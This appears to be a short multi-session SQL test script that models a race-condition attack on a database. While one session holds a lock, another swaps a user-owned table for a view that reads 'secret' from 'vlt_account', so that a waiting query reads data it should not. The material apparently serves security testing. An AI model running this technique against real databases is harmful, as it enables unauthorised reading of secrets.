-- Gives an own table another meaning while a statement that names it waits behind another lock.
-- wants: read
-- attack:
CREATE TABLE gatekeeper (one int);
INSERT INTO gatekeeper VALUES (1);
-- session: keeper
BEGIN;
LOCK TABLE gatekeeper IN ACCESS EXCLUSIVE MODE;
-- session: reader
-- without waiting
SELECT v FROM gatekeeper, mallory_own;
-- session: first
SELECT pg_sleep(0.3);
BEGIN;
DROP TABLE mallory_own;
CREATE VIEW mallory_own AS SELECT read_any('SELECT secret FROM vlt_account') AS v;
COMMIT;
-- session: keeper
COMMIT;
